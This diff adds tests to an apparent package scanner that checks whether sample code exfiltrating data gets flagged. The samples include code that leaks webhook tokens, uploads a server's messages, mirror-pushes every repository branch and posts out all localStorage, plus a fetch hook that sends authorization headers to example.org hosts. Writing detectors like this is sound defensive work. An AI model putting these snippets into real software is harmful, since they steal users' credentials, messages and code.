@@ -86,3 +86,44 @@ test('limits: calls of a package, and bytes of scripts where there is no permiss
   assert.equal(uses('f();'.repeat(MOST_CALLS)), 0);
   assert.equal(uses(`/*${' '.repeat(MOST_WATCHED)}*/`), 0);
 });
+
+test('webhooks: what lets others write there, and not what it is called', () => {
+  const hook = (body: string): string[] => told('skynet', { 'index.js': `const channel = require('channel'); const http = require('http'); const hook = await channel.createWebhook({ name: 'News' }); ${body}` });
+  for (const body of ["await http.post('https://hooks.example.org/w', { at: hook.url });", "await http.request({ url: 'https://hooks.example.org/w', method: 'POST', body: JSON.stringify([hook.token]) });"]) assert.match(hook(body).join(), /keys of a chat/, body);
+  for (const body of ["await http.post('https://hooks.example.org/w', { at: hook.id, name: hook.name });", "await http.post(hook.url, { content: 'Hello', avatar_url: 'https://images.example.org/a.png' });", "await require('extension').set('hook', hook.url);"]) assert.deepEqual(hook(body), [], body);
+});
+
+test('messages of a whole server: what they say, and not how many there are', () => {
+  const sink = "const http = require('http'); exports.Sink = class { constructor(url) { this.url = url; this.rows = []; } add(row) { this.rows.push(row); } close() { return http.request({ url: this.url, method: 'POST', body: JSON.stringify(this.rows) }); } };";
+  const sent = (body: string): string[] => told('skynet', { 'index.js': `const { Sink } = require('./sink'); const guild = require('guild'); const all = await guild.fetchMessages({ limit: 500 }); const sink = new Sink('https://rows.example.org/in'); ${body} await sink.close();`, 'sink.js': sink });
+  assert.match(sent('all.forEach((m) => sink.add([m.author.id, m.content]));').join(), /high sink\.js: .* all channels of a server/);
+  for (const body of ['sink.add([guild.id, all.length]);', 'for (const m of all) sink.add(m.channel.id);']) assert.deepEqual(sent(body), [], body);
+});
+
+test('a repository: all branches to a server of the package', () => {
+  const git = (body: string): string[] => told('orchestra', { 'index.js': `const { Repo } = require('./repo'); ${ORCHESTRA('new Repo(ctx).run();')}`, 'repo.js': `const HOME = 'https://depot.example.org/in/'; exports.Repo = class { #git; constructor({ git, settings }) { this.#git = git; this.settings = settings; } async run() { ${body} } };` });
+  for (const body of [
+    "await this.#git.remote.add('spare', HOME + encodeURIComponent((await this.#git.remote.list())[0].url)); await this.#git.push('spare', { all: true });",
+    "await this.#git.addRemote('spare', `${HOME}a.git`); await this.#git.push('spare', ['--mirror']);",
+    'await this.#git.push(`${HOME}a.git`, { mirror: true, force: true });',
+  ]) assert.match(git(body).join(), /high repo\.js: all branches of a repository/, body);
+  for (const body of [
+    "await this.#git.push('origin', { all: true });",
+    "await this.#git.remote.add('template', `${HOME}template.git`); await this.#git.fetch('template'); await this.#git.push('origin', { all: true });",
+    "await this.#git.remote.add('spare', this.settings.get('server')); await this.#git.push('spare', { mirror: true });",
+    "await this.#git.remote.add('gitlab', `https://gitlab.com/${this.settings.get('group')}/a.git`); await this.#git.push('gitlab', { all: true });",
+    "await this.#git.remote.add('deploy', `${HOME}app.git`); await this.#git.push('deploy', 'main');",
+  ]) assert.deepEqual(git(body), [], body);
+});
+
+test('forms of a page that nobody fills in', () => {
+  const form = (action: string, value: string): string[] => told('comfyvn', { 'index.js': `(function () { function post(action, value) { var form = document.createElement('form'); form.method = 'post'; form.action = action; var field = document.createElement('textarea'); field.value = value; form.appendChild(field); document.body.appendChild(form); form.submit(); } var kept = {}; for (var i = 0; i < localStorage.length; i++) { var name = localStorage.key(i); kept[name] = localStorage.getItem(name); } post(${action}, ${value}); })();` });
+  assert.match(form("'https://save.example.org/g'", 'JSON.stringify({ kept: kept })').join(), /everything that a page keeps/);
+  for (const [action, value] of [["'https://save.example.org/g'", 'document.title'], ["'/save'", 'JSON.stringify(kept)'], ["'https://save.example.org/g'", "localStorage.getItem('theme')"]] as const) assert.deepEqual(form(action, value), [], value);
+});
+
+test('requests of others, by a function in the place of their own', () => {
+  const hook = (body: string): string[] => told('formula', { 'index.js': `class Kept { constructor(real) { this.real = real; } async get(input, init) { const request = new Request(input, init); ${body} return this.real(input, init); } } exports.activate = () => { const kept = new Kept(globalThis.fetch.bind(globalThis)); globalThis.fetch = (input, init) => kept.get(input, init); };` });
+  assert.match(hook("const row = [request.url, request.headers.get('authorization')]; this.real('https://rows.example.org/m', { method: 'POST', body: JSON.stringify(row) });").join(), /in the requests of others/);
+  for (const body of ["this.real('https://rows.example.org/m', { method: 'POST', body: JSON.stringify([request.url, request.method]) });", "if (this.isFar) return this.real('https://way.example.org/?to=' + encodeURIComponent(input), { headers: request.headers, body: request.body });"]) assert.deepEqual(hook(body), [], body);
+});
